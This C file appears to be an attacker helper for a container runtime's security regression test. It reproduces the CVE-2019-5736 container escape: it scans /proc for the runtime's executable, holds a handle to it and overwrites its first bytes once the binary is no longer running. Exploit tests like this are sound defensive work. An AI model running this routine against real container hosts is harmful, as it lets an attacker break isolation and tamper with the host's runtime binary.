/* CVE-2019-5736 attacker for cve.bats: from inside a container, try to get a writable handle on the runtime's binary
 * via /proc/PID/exe. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

/* Usage: exe-attacker PID|scan SECONDS OUTFILE
 * PID: open /proc/PID/exe (O_PATH) once. scan: for SECONDS, open the exe of
 * every other process that shows up. An exe that is none of the container's
 * own binaries is foreign (the runtime): the attacker keeps its fd and, until
 * SECONDS pass, reopens it for writing through /proc/self/fd (ETXTBSY while
 * the runtime still runs it) and overwrites its first bytes. OUTFILE gets
 * `denied=N` (opens refused), `opened=N` (foreign exes opened) and
 * `written=N` (foreign binaries written to); it is written at the end, so
 * the test waits for it. A scan also ends early once /tmp/stop exists.
 * Exit status 0 always: the test judges. */

static const char *const own_binaries[] = { "/bin/busybox", "/bin/payload", "/bin/exe-attacker" };

struct tally
{
  int denied, opened, written;
  int held[64];
  int nheld;
};

static bool is_own_binary (int fd)
{
  struct stat st, own;
  if (fstat (fd, &st) < 0)
    return true;
  for (size_t i = 0; i < sizeof own_binaries / sizeof own_binaries[0]; i++)
    if (stat (own_binaries[i], &own) == 0 && own.st_dev == st.st_dev && own.st_ino == st.st_ino)
      return true;
  return false;
}

static void try_pid (struct tally *t, long pid)
{
  char path[64];
  snprintf (path, sizeof path, "/proc/%ld/exe", pid);
  int fd = open (path, O_PATH | O_CLOEXEC);
  if (fd < 0)
    {
      /* ENOENT: gone, or a kernel thread; EACCES/EPERM: refused. */
      t->denied += errno == EACCES || errno == EPERM;
      return;
    }
  if (is_own_binary (fd) || t->nheld == (int)(sizeof t->held / sizeof t->held[0]))
    {
      close (fd);
      return;
    }
  t->opened++;
  t->held[t->nheld++] = fd;
}

static void scan_once (struct tally *t)
{
  DIR *d = opendir ("/proc");
  struct dirent *e;
  if (d == NULL)
    return;
  while ((e = readdir (d)) != NULL)
    {
      char *end;
      long pid = strtol (e->d_name, &end, 10);
      if (*end == '\0' && pid > 0 && pid != getpid ())
        try_pid (t, pid);
    }
  closedir (d);
}

/* The CVE's second step: once nobody executes the binary, open it for writing. */
static void try_write (struct tally *t)
{
  for (int i = 0; i < t->nheld; i++)
    {
      char path[64];
      if (t->held[i] < 0)
        continue;
      snprintf (path, sizeof path, "/proc/self/fd/%d", t->held[i]);
      int w = open (path, O_WRONLY | O_CLOEXEC);
      if (w < 0)
        continue;
      if (pwrite (w, "PWNED", 5, 0) == 5)
        {
          t->written++;
          close (t->held[i]);
          t->held[i] = -1;
        }
      close (w);
    }
}

static double now (void)
{
  struct timespec ts;
  clock_gettime (CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main (int argc, char **argv)
{
  struct tally t = { 0 };
  if (argc != 4)
    {
      fprintf (stderr, "usage: exe-attacker PID|scan SECONDS OUTFILE\n");
      return 2;
    }
  bool scan = strcmp (argv[1], "scan") == 0;
  double end = now () + atof (argv[2]);
  if (!scan)
    try_pid (&t, atol (argv[1]));
  while (now () < end && (!scan || access ("/tmp/stop", F_OK) < 0))
    {
      if (scan)
        scan_once (&t);
      try_write (&t);
      usleep (scan ? 0 : 20000);
    }
  FILE *f = fopen (argv[3], "w");
  if (f == NULL)
    return 1;
  fprintf (f, "denied=%d\nopened=%d\nwritten=%d\n", t.denied, t.opened, t.written);
  return fclose (f) == 0 ? 0 : 1;
}
